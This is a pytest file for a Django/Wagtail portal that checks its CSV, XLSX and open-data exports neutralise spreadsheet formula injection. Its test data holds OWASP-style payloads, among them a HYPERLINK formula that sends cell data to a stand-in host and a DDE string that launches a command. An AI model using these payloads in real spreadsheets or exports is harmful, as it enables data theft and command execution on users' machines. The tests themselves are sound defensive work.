"""Spreadsheet formula injection: every CSV the portal writes keeps residents' text as text."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from wagtail.contrib.forms.models import FormSubmission

from initiatives.models import InitiativeIndexPage
from security.spreadsheets import safe_cell

from .factories.engagement import FormFieldFactory, FormPageFactory, IdeaFactory
from .factories.initiatives import InitiativePageFactory

pytestmark = pytest.mark.django_db

# What the outside test sent as an idea (OWASP's examples of CSV injection).
HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
COMMAND = "@SUM(1)+cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, COMMAND, "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_a_spreadsheet_would_run_becomes_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Suoliukai", "a=b", "", " =x", 12, -3, None, 1.5])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def dangerous_cells(rows):
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.fixture
def moderator(client):
    user = get_user_model().objects.create_user("moderatore", "m@vvg.example.org", "slaptas-1")
    user.groups.add(Group.objects.get(name="Moderatoriai"))
    client.force_login(user)
    return user


def test_the_ideas_csv_export_neutralises_formulas(client, moderator):
    IdeaFactory(title=HYPERLINK, description=COMMAND, name="-Ona", location="+370 600 00000")
    response = client.get("/admin/snippets/engagement/idea/", {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert dangerous_cells(rows) == []
    cells = [cell for row in rows for cell in row]
    for value in ("'" + HYPERLINK, "'" + COMMAND, "'-Ona", "'+370 600 00000"):
        assert value in cells


def test_the_ideas_xlsx_export_keeps_formulas_as_text(client, moderator):
    IdeaFactory(title=HYPERLINK, description=COMMAND)
    response = client.get("/admin/snippets/engagement/idea/", {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = {cell.value: cell for row in workbook.active.iter_rows() for cell in row}
    # The resident's exact words, stored as strings: never a formula, nothing added.
    for payload in (HYPERLINK, COMMAND):
        assert cells[payload].data_type == "s"
    assert not [cell for cell in cells.values() if cell.data_type == "f"]


def test_form_submissions_csv_export_neutralises_formulas(client, home_lt, admin_user):
    survey = FormPageFactory(parent=home_lt, slug="apklausa-formulems")
    FormFieldFactory(page=survey, label="=Klausimas", clean_name="klausimas")
    FormSubmission.objects.create(page=survey, form_data={"klausimas": HYPERLINK})
    client.force_login(admin_user)
    response = client.get(f"/admin/forms/submissions/{survey.pk}/", {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert dangerous_cells(rows) == []
    assert "'" + HYPERLINK in rows[1]
    assert "'=Klausimas" in rows[0]


def test_the_open_data_csv_neutralises_formulas_and_keeps_numbers(client, lt):
    index = InitiativeIndexPage.objects.get(locale=lt)
    page = InitiativePageFactory(parent=index, beneficiary=HYPERLINK, address="@Vilniaus g. 1")
    page.save_revision().publish()
    response = client.get(index.url + "csv/")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))
    assert dangerous_cells(rows) == []
    row = next(row for row in rows if "'" + HYPERLINK in row)
    assert "'@Vilniaus g. 1" in row
    assert "900.00" in row  # numbers stay numbers
